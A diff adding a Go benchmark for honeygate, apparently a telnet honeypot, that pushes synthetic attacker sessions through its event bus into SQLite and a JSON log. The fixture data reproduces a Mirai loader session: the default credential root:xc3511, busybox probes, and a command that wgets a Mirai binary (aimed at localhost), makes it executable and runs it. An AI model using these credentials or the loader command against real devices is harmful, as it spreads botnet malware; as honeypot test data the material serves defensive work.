@@ -1,0 +1,157 @@
+// Package pipeline benchmarks honeygate's event path on its own, without
+// sensors or a load generator competing for the CPU: many publishers put
+// realistic telnet events on the embedded NATS JetStream bus (file storage),
+// and the durable consumers write them to SQLite and to the JSON log, as
+// `honeygate serve` does. It reports events per second stored.
+//
+//	go test -run='^$' -bench=Pipeline -benchtime=1x ./bench/pipeline
+//	PIPELINE_EVENTS=500000 go test -run='^$' -bench=Pipeline -benchtime=1x ./bench/pipeline
+package pipeline
+
+import (
+	"context"
+	"fmt"
+	"log/slog"
+	"os"
+	"path/filepath"
+	"strconv"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/honeygate/honeygate/internal/bus"
+	"github.com/honeygate/honeygate/internal/event"
+	"github.com/honeygate/honeygate/internal/jsonlog"
+	"github.com/honeygate/honeygate/internal/store/sqlite"
+)
+
+// session returns the events of one Mirai loader session as the telnet
+// sensor produces them (15 events, the same kinds and sizes).
+func session(n int) []event.Event {
+	sid := fmt.Sprintf("%012x", n)
+	pw := "xc3511"
+	base := event.Event{Sensor: "bench", Proto: "telnet", SrcIP: fmt.Sprintf("198.51.%d.%d", n/250%250, n%250+1),
+		SrcPort: 30000 + n%30000, DstPort: 23, Session: sid, Family: "mirai"}
+	mk := func(k event.Kind, f func(*event.Event)) event.Event {
+		e := base
+		e.ID, e.Time, e.Kind = event.NewID(), time.Now().UTC(), k
+		if f != nil {
+			f(&e)
+		}
+		return e
+	}
+	evs := []event.Event{
+		mk(event.SessionConnect, func(e *event.Event) { e.Family = "" }),
+		mk(event.ClientSize, func(e *event.Event) { e.Width, e.Height = 80, 24 }),
+		mk(event.LoginSuccess, func(e *event.Event) { e.Username, e.Password = "root", &pw }),
+		mk(event.SessionAttributed, func(e *event.Event) {
+			e.Reasons = []string{"mirai-credentials (+1): login with a pair from Mirai's default credential table [credential root:xc3511]"}
+		}),
+	}
+	for _, in := range []string{"enable", "system", "shell", "sh", "/bin/busybox ECCHI",
+		"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
+		`/bin/busybox echo -e '\x6b\x61\x6d\x69' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon`,
+		"/bin/busybox wget http://127.0.0.1:9/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
+		"exit"} {
+		evs = append(evs, mk(event.CommandInput, func(e *event.Event) { e.Input, e.Output = in, "ECCHI: applet not found\n" }))
+	}
+	evs = append(evs,
+		mk(event.FileDownload, func(e *event.Event) {
+			e.URL, e.Tool, e.Filename = "http://127.0.0.1:9/bins/"+sid+"/mirai.arm", "wget", "/tmp/dvrHelper"
+		}),
+		mk(event.SessionClosed, func(e *event.Event) { e.Duration, e.Bytes, e.Message = 0.4, 900, "client exit" }),
+	)
+	return evs
+}
+
+func BenchmarkPipeline(b *testing.B) {
+	total := 300_000
+	if v, err := strconv.Atoi(os.Getenv("PIPELINE_EVENTS")); err == nil && v > 0 {
+		total = v
+	}
+	const publishers = 500 // like 500 concurrent attacker sessions
+	perSession := len(session(0))
+	sessions := total / perSession
+	total = sessions * perSession
+
+	for range b.N {
+		dir := b.TempDir()
+		ctx, cancel := context.WithCancel(context.Background())
+		log := slog.New(slog.DiscardHandler)
+		bs, err := bus.Open(ctx, bus.Options{StoreDir: filepath.Join(dir, "nats")}, log)
+		if err != nil {
+			b.Fatal(err)
+		}
+		st, err := sqlite.Open(filepath.Join(dir, "honeygate.db"))
+		if err != nil {
+			b.Fatal(err)
+		}
+		elog, err := jsonlog.Open(filepath.Join(dir, "log"), 256<<20, 0)
+		if err != nil {
+			b.Fatal(err)
+		}
+		var stored atomic.Int64
+		done := make(chan struct{})
+		var wg sync.WaitGroup
+		wg.Add(2)
+		go func() {
+			defer wg.Done()
+			_ = bs.Consume(ctx, "store", 1000, bus.Handler{Events: func(ctx context.Context, evs []event.Event) error {
+				ins, err := st.AppendEvents(ctx, evs)
+				if err == nil && stored.Add(int64(len(ins))) == int64(total) {
+					close(done)
+				}
+				return err
+			}})
+		}()
+		go func() {
+			defer wg.Done()
+			_ = bs.Consume(ctx, "jsonlog", 1000, bus.Handler{Events: func(ctx context.Context, evs []event.Event) error {
+				return elog.Write(evs)
+			}})
+		}()
+
+		b.ResetTimer()
+		start := time.Now()
+		next := atomic.Int64{}
+		var pubs sync.WaitGroup
+		for range publishers {
+			pubs.Add(1)
+			go func() {
+				defer pubs.Done()
+				for {
+					n := next.Add(1) - 1
+					if n >= int64(sessions) {
+						return
+					}
+					for _, e := range session(int(n)) {
+						if err := bs.Publish(ctx, &e); err != nil {
+							b.Error(err)
+							return
+						}
+					}
+				}
+			}()
+		}
+		pubs.Wait()
+		published := time.Since(start)
+		select {
+		case <-done:
+		case <-time.After(10 * time.Minute):
+			b.Fatalf("stored %d of %d events", stored.Load(), total)
+		}
+		elapsed := time.Since(start)
+		b.StopTimer()
+		b.ReportMetric(float64(total)/elapsed.Seconds(), "events/s_stored")
+		b.ReportMetric(float64(total)/published.Seconds(), "events/s_published")
+		if n, err := st.CountEvents(ctx); err != nil || n != int64(total) {
+			b.Fatalf("store holds %d events (%v), want %d", n, err, total)
+		}
+		cancel()
+		wg.Wait()
+		bs.Close()
+		elog.Close()
+		st.Close()
+	}
+}
